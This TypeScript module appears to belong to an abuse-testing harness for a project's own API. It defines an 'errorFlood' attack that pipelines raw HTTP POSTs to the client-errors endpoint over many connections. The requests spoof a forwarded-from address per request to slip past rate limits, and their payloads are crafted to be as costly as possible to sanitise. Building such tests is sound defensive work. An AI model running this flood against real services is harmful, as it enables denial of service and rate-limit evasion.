import { CLIENT_ERRORS_PATH } from '@droptally/proto/api/paths';
import type { Attack } from '../attack.ts';
import { countAnswers, dialAsProxy, forwardedFrom, keepDialling } from '../dial.ts';

const PIPELINED = 32;
const WORDS = 'word '.repeat(36);
/** The costliest message to clean: each quotation may end at any quote. */
const QUOTES = `"'\``.repeat(66);
const PLACES = Array.from({ length: 5 }, (_, n) => `${'a'.repeat(80)}:${n}:1`);

/** Errors of pages, as long as one may be, each from another address. */
export const errorFlood: Attack = {
  counts: 'errors that were kept',
  atLeast: 100,
  begin(target) {
    let sent = 0;
    const request = () => {
      const message = sent % 2 === 0 ? `${WORDS}${sent % 1_000}` : QUOTES;
      const about = { origin: 'page', places: PLACES, screen: '/planner', build: `0.1.0+${sent}`, language: 'en' };
      const body = JSON.stringify({ ...about, message });
      const head = `POST ${CLIENT_ERRORS_PATH} HTTP/1.1\r\nHost: x\r\n${forwardedFrom(sent++)}`;
      return `${head}Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    };
    const requests = (count: number) => Array.from({ length: count }, request).join('');
    keepDialling(
      target,
      64,
      (socket) => {
        countAnswers(socket, 204, target);
        socket.on('data', (data) => socket.write(requests(data.toString('latin1').split('HTTP/1.1 ').length - 1)));
        socket.write(requests(PIPELINED));
      },
      dialAsProxy,
    );
  },
};
